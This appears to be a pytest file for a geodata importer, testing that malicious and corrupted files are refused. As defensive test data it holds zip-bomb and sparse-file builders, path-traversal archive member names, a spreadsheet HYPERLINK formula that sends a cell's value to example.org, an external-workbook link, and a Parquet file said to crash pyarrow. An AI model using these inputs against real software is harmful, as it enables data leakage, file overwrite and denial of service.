"""Files that are made to hurt are refused in little memory, and never end in anything but a word."""

import gzip
import json
import sqlite3
import subprocess
import sys
import zipfile
from base64 import b64decode
from contextlib import closing, suppress
from pathlib import Path

import geopandas as gpd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from shapely.geometry import Point
from sqlalchemy import Engine

from app.errors import ImportRefused
from app.ingest.read import endings, read
from app.ingest.unlocated import write_unlocated
from layers.registry import LAYERS
from tests.builders import load, row, rows
from tests.ingest.bombs import READ, SHEET, TEXTS, bomb, noise
from tests.ingest.sheets import HEADERS, ROW, workbook

HUGE = 10 * 10**9
"""Bytes that a sparse file claims to have."""

LITTLE_MB = 350
"""What reading may take beyond what the program takes when it has read nothing."""


def sparse(path: Path, start: bytes = b"") -> Path:
    with path.open("wb") as stream:
        stream.write(start)
        stream.truncate(HUGE)
    return path


def test_huge_and_packed_files_are_refused_in_little_memory(tmp_path: Path) -> None:
    files = [
        *(sparse(tmp_path / f"huge{ending}") for ending in endings() if ending != ".shp"),
        sparse(tmp_path / "header.csv", f"{','.join(HEADERS)}\n".encode()),
        sparse(tmp_path / "begun.geojson", b'{"type":"FeatureCollection","features":[{"a":"'),
        bomb(tmp_path / "zeros.xlsx", SHEET, [b" " * 10**6] * 300),
        bomb(tmp_path / "texts.xlsx", TEXTS, [noise(10**6)] * 300),
    ]
    ran = subprocess.run([sys.executable, "-c", READ, *map(str, files)],
                         capture_output=True, text=True, check=True)  # fmt: skip
    told = json.loads(ran.stdout)
    assert len(told) == len(files)
    for path in files:
        words, beyond_mb = told[str(path)]
        assert "records" not in words, (path.name, words)
        assert path.name in words
        assert str(tmp_path) not in words
        assert beyond_mb < LITTLE_MB, (path.name, words, beyond_mb)


@pytest.mark.parametrize(
    "name", ["../../evil.shp", "/etc/evil.shp", "a/../../evil.shp", "..\\evil.shp"]
)
def test_archive_that_would_leave_its_folder_is_refused(tmp_path: Path, name: str) -> None:
    path = tmp_path / "a.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(name, b"x")
    with pytest.raises(ImportRefused, match="leaves the folder"), read(path):
        pass
    assert [each.name for each in tmp_path.rglob("evil*")] == []


FORMULA = '=HYPERLINK("http://example.org/?"&A1,"罐区")'


@pytest.mark.parametrize("name", [FORMULA, "+1+1", "-1", "@SUM(A1)", '"a""b"', "a\nb", "罐\t区"])
def test_cells_that_begin_like_formulas_or_hold_quotes_are_text_in_and_out(
    empty_engine: Engine, tmp_path: Path, name: str
) -> None:
    frame = gpd.GeoDataFrame({"code": ["P1"], "name": [name], "category": ["01"]},
                             geometry=[None], crs="EPSG:4326")  # fmt: skip
    path = tmp_path / "a.geojson"
    path.write_text(frame.to_json(), encoding="utf-8")
    assert load(empty_engine, "risk_points", path).added == 1
    stored = row(empty_engine, "risk_points", code="P1")["name"]
    assert " ".join(stored.split()) == " ".join(name.split())
    out = tmp_path / "rest.xlsx"
    write_unlocated(empty_engine, LAYERS["risk_points"], out)
    cells = [cell for line in load_workbook(out).active.iter_rows() for cell in line]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert stored in {cell.value for cell in cells}
    assert load(empty_engine, "risk_points", out).unchanged == 1


def test_formula_gives_the_value_that_was_kept_and_no_link_is_followed(
    empty_engine: Engine, tmp_path: Path
) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(list(HEADERS))
    sheet.append(["P1", FORMULA, "01", "='http://127.0.0.1:1/[a.xlsx]S'!A1", 30.04])
    book.save(tmp_path / "a.xlsx")
    report = load(empty_engine, "risk_points", tmp_path / "a.xlsx")
    assert report.rejected == 1, "formulas that nobody computed have no value"
    assert rows(empty_engine, "risk_points") == 0


def written(folder: Path) -> dict[str, bytes]:
    """A small good file of every kind."""
    frame = gpd.GeoDataFrame(
        {"code": ["P1", "P2"], "name": ["一号罐区", "b"], "category": ["01", "02"]},
        geometry=[Point(121.1, 30.1), Point(121.2, 30.2)], crs="EPSG:4326",
    )  # fmt: skip
    frame.to_file(folder / "a.gpkg", driver="GPKG", engine="pyogrio")
    frame.to_file(folder / "a.fgb", driver="FlatGeobuf", engine="pyogrio")
    frame.to_file(folder / "a.geojson", driver="GeoJSON", engine="pyogrio")
    frame.to_file(folder / "a.kml", driver="KML", engine="pyogrio")
    with zipfile.ZipFile(folder / "a.kmz", "w") as archive:
        archive.write(folder / "a.kml", "doc.kml")
    frame.to_parquet(folder / "a.parquet")
    frame.to_file(folder / "s.shp", engine="pyogrio", encoding="utf-8")
    with zipfile.ZipFile(folder / "a.zip", "w") as archive:
        for each in folder.glob("s.*"):
            archive.write(each, each.name)
    workbook(folder / "a.xlsx", [HEADERS, ROW])
    frame.drop(columns="geometry").to_csv(folder / "a.csv", index=False)
    (folder / "a.nmea").write_bytes(b"!AIVDM,1,1,,A,15MgK45P3@G?fl0E`JbR0OwT0@MS,0*4E\r\n")
    (folder / "a.csv.gz").write_bytes(gzip.compress((folder / "a.csv").read_bytes()))
    frame.to_file(folder / "a.geojsonl", driver="GeoJSONSeq", engine="pyogrio")
    return {each.name.removeprefix("a"): each.read_bytes() for each in folder.glob("a.*")}


@pytest.fixture(scope="module")
def good(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    return written(tmp_path_factory.mktemp("good"))


def test_geometries_with_m_are_read_without_it_and_it_is_told(
    good: dict[str, bytes], tmp_path: Path
) -> None:
    """A damaged header may say so too; found by the test of damaged files."""
    path = tmp_path / "m.gpkg"
    path.write_bytes(good[".gpkg"])
    with closing(sqlite3.connect(path)) as database, database:
        database.execute("UPDATE gpkg_geometry_columns SET m = 1")
    with read(path) as table:
        assert [record.values["code"] for record in table.records] == ["P1", "P2"]
    assert table.notes == ["几何的 M 值未读取 the M of the geometries was not read"]


def test_archive_with_a_member_without_a_name_is_refused(
    good: dict[str, bytes], tmp_path: Path
) -> None:
    """What ends a name is its NUL; found by the test of damaged files."""
    path = tmp_path / "nameless.zip"
    path.write_bytes(good[".zip"].replace(b"s.dbf", b"\0.dbf"))
    with pytest.raises(ImportRefused, match="no name"), read(path):
        pass


CONTRADICTION = b64decode(
    "UEFSMRUAFRgVGCwVAhUAFQYVBhw2ACgCUDEYAlAxEREAAAACAAAAAgECAAAAUDEVBBksNQAYBnNjaGVtYRUCABUAJQ"
    "IYBGNvZGUlAEwcAAAAFgIZHBkcJgAcFQwZJQYAGRgEY29kZRUAFgIWVhZWJgg8NgAoAlAxGAJQMRERABkcFQAVABUC"
    "ADwWBBkGGSYAAgAAABZWFgImCBZWACggcGFycXVldC1jcHAtYXJyb3cgdmVyc2lvbiAyNi4wLjEZHBwAAACWAAAAUE"
    "FSMQ=="
)
"""A Parquet of one row whose metadata contradicts itself: pyarrow 26 ends the process for it."""


def test_parquet_that_would_end_the_process_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "a.parquet"
    path.write_bytes(CONTRADICTION)
    with (
        pytest.raises(ImportRefused, match=r"^a\.parquet: .*contradicts itself 文件损坏"),
        read(path),
    ):
        pass


def test_geopackage_of_which_even_the_fault_is_no_text_is_refused(
    good: dict[str, bytes], tmp_path: Path
) -> None:
    """Found by many more examples of the test of damaged files than it runs."""
    path = tmp_path / "a.gpkg"
    path.write_bytes(good[".gpkg"].replace(b"CREATE TABLE", b"CREATE\xffTABLE"))
    with pytest.raises(ImportRefused, match=r"^a\.gpkg: "), read(path):
        pass


def _flipped(content: bytes, places: list[tuple[int, int]]) -> bytes:
    changed = bytearray(content)
    for at, value in places:
        changed[at % len(changed)] = value
    return bytes(changed)


@pytest.mark.parametrize("ending", [".csv", ".xlsx", ".geojson", ".gpkg", ".fgb", ".kml",
                                    ".parquet", ".zip", ".kmz", ".nmea", ".csv.gz", ".geojsonl"])  # fmt: skip
def test_damaged_file_is_read_or_refused_and_nothing_else(
    good: dict[str, bytes], tmp_path: Path, ending: str
) -> None:
    path = tmp_path / f"damaged{ending}"

    # A Parquet is read by a process of its own, which takes a fifth of a second to begin.
    examples = 20 if ending == ".parquet" else 60

    @settings(max_examples=examples, deadline=None, suppress_health_check=[HealthCheck.too_slow])
    @given(
        places=st.lists(st.tuples(st.integers(0, 10**6), st.integers(0, 255)), max_size=8),
        cut=st.integers(0, 10**6),
        whole=st.booleans(),
    )
    def damaged(places: list[tuple[int, int]], cut: int, whole: bool) -> None:
        content = _flipped(good[ending], places)
        path.write_bytes(content if whole else content[: cut % len(content)])
        with suppress(ImportRefused), read(path) as table:
            for record in table.records:
                assert set(record.values) <= set(table.headers)

    damaged()
